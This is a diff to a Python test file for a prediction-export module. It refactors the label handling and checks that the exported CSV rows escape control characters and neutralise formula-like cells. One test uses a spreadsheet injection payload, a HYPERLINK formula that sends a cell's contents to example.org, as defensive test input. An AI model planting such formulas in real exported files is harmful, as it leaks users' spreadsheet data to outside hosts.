@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 
 from attnviz.commands.train.predictions import prediction_rows, predictions_report
 from attnviz.display import FORMULA
+from attnviz.records.answers import AnswerInfo
 from attnviz.records.training_metrics import Prediction
 from attnviz.renderers.documents.json import write_alone
 from attnviz.renderers.terminal.show import Screen, render
@@ -22,6 +23,7 @@ from tests.made import HOSTILE, table
 
 LACKED, HAS = "with a label that the model does not have", "it has 0 (negative), 1 (positive)."
 LABELS = ("negative", "positive")
+ANSWERS = AnswerInfo.from_training(LABELS)
 MODEL_S_CONFIDENCE = "A probability is the model's confidence in its answer, not the truth of it."
 
 
@@ -40,7 +42,12 @@ SCORED = (said(0.75, 1), said(0.875, 1), said(0.625, 0), said(0.25, 0))  # three
 
 def report(predictions: Sequence[Prediction], labels: tuple[str, ...] = LABELS, listed: int = 20) -> Report:
     return predictions_report(
-        predictions, labels=labels, model="multi:8", status="trained", corpus="sample test", listed=listed
+        predictions,
+        answers=AnswerInfo.from_training(labels),
+        model="multi:8",
+        status="trained",
+        corpus="sample test",
+        listed=listed,
     )
 
 
@@ -94,7 +101,7 @@ def test_it_says_what_it_is_about() -> None:
 
 def test_facts_are_handed_on_and_safe() -> None:
     of = predictions_report(
-        FEW, labels=LABELS, model="m", status="s", corpus="c", facts=(("seed", "0"), ("\x1b", "a\nb"))
+        FEW, answers=ANSWERS, model="m", status="s", corpus="c", facts=(("seed", "0"), ("\x1b", "a\nb"))
     )
     assert of.facts == (("seed", "0"), ("\\x1b", "a⏎b"))
 
@@ -243,7 +250,7 @@ def test_nothing_hidden_is_shown_and_nothing_is_changed_in_the_data(hostile: lis
     first, second, name, model, corpus = hostile
     of = predictions_report(
         [said(0.9, 1, name=name)],
-        labels=(first, second),
+        answers=AnswerInfo.from_training((first, second)),
         model=model,
         status=name,
         corpus=corpus,
@@ -311,37 +318,37 @@ def test_data_by_hand() -> None:
 
 
 def test_rows_by_hand() -> None:
-    rows = list(prediction_rows([said(0.1, 1, name="a, b", n_tokens=600), said(2 / 3), said(0.75, 4)], LABELS))
+    rows = list(prediction_rows([said(0.1, 1, name="a, b", n_tokens=600), said(2 / 3), said(0.75, 4)], ANSWERS))
     assert rows == [
         ("text", "label", "probability", "given", "tokens", "tokens_read", "p_negative", "p_positive"),
         ("a, b", "negative", "0.9", "positive", "600", "512", "0.9", "0.1"),
         ("text", "positive", "0.6666666666666666", "", "9", "9", "0.33333333333333337", "0.6666666666666666"),
         ("text", "positive", "0.75", "4", "9", "9", "0.25", "0.75"),
     ]
-    assert list(prediction_rows([], LABELS)) == rows[:1]
+    assert list(prediction_rows([], ANSWERS)) == rows[:1]
 
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
 def test_what_looks_like_a_formula_is_text(sign: str) -> None:
     formula = f'{sign}HYPERLINK("http://example.org/?" & A1)'
-    header, row = prediction_rows([said(0.9, 0, name=formula)], (formula, f"{sign}2"))
+    header, row = prediction_rows([said(0.9, 0, name=formula)], AnswerInfo.from_training((formula, f"{sign}2")))
     assert row[:4] == (f"'{formula}", f"'{sign}2", "0.9", f"'{formula}")
     assert header[-2:] == (f"p_{formula}", f"p_{sign}2")  # begins with p, and so is none
 
 
 def test_a_control_character_does_not_hide_a_formula() -> None:
-    _, *rows = prediction_rows([said(0.9, name=name) for name in ("\t=1", "\r=1", "\n=1", " =1", "\u200b=1")], LABELS)
+    _, *rows = prediction_rows([said(0.9, name=name) for name in ("\t=1", "\r=1", "\n=1", " =1", "\u200b=1")], ANSWERS)
     assert [row[0] for row in rows] == ["⇥=1", "\\x0d=1", "⏎=1", "␣=1", "\\u200b=1"]
 
 
 def test_a_name_in_a_row_is_never_cut() -> None:
-    _, row = prediction_rows([said(0.9, name="x" * 600 + "\x1b" * 9)], LABELS)
+    _, row = prediction_rows([said(0.9, name="x" * 600 + "\x1b" * 9)], ANSWERS)
     assert row[0] == "x" * 600 + "\\x1b" * 9
 
 
 @given(st.text() | st.sampled_from(HOSTILE), st.text() | st.sampled_from(HOSTILE))
 def test_any_row_is_safe(name: str, label: str) -> None:
-    header, row = prediction_rows([said(0.9, 1, name=name)], ("other", label))
+    header, row = prediction_rows([said(0.9, 1, name=name)], AnswerInfo.from_training(("other", label)))
     assert len(header) == len(row) == 8
     for cell in (*header, *row):
         cell.encode("utf-8")
